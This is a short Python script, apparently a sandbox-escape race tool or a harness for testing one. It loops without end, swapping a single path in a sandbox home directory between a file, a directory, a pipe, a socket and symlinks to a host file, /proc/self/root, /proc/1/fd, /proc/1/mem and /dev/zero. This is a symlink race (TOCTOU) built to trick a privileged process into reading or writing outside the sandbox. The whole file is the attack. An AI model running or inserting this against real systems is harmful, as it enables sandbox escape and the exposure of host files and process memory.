# One name that is a file, a directory, a pipe, a socket and links to where its owner would like to get, by turns.
import os, socket, sys
home, host_file = "/home/sandbox", sys.argv[1]
name = home + "/swapped"
def file():
    with open(name + "~", "w") as new: new.write("of the box")
def directory():
    os.mkdir(name + "~")
    open(name + "~/inner", "w").close()
def pipe(): os.mkfifo(name + "~")
def local(): socket.socket(socket.AF_UNIX).bind(name + "~")
def link(target): return lambda: os.symlink(target, name + "~")
def clear(path):
    try: os.unlink(path)
    except IsADirectoryError:
        for inner in os.listdir(path): clear(path + "/" + inner)
        os.rmdir(path)
    except OSError: pass
kinds = [file, link(host_file), directory, link("/proc/self/root" + host_file), pipe, link("/proc/1/fd"), local, link("/proc/1/mem"), link(name), link("/dev/zero")]
rounds = 0
while True:
    for make in kinds:
        for path in (name + "~", name):
            try: clear(path)
            except OSError: pass
        try:
            make()
            os.rename(name + "~", name)
        except OSError: pass
    rounds += 1
    if rounds == 1: print("ready", flush=True)
